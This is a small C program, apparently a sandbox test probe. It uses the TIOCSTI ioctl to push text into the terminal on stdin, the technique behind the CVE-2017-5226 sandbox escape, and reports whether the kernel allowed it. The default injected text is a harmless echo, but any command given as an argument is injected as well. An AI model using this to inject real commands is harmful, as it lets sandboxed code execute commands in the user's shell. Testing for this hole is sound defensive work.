/* SPDX-License-Identifier: MIT */
/*
 * tiocsti - try to push "TEXT\n" into the terminal on stdin with TIOCSTI, the
 * way CVE-2017-5226 escaped sandboxes.  Exit 0 when the kernel took it, 1 when
 * it refused (printing why).
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>

int main(int argc, char **argv)
{
	const char *text = argc > 1 ? argv[1] : "echo INJECTED";
	for (const char *p = text; *p; p++) {
		if (ioctl(0, TIOCSTI, p) < 0) {
			printf("TIOCSTI refused: %s\n", strerror(errno));
			return 1;
		}
	}
	char nl = '\n';
	return ioctl(0, TIOCSTI, &nl) < 0;
}
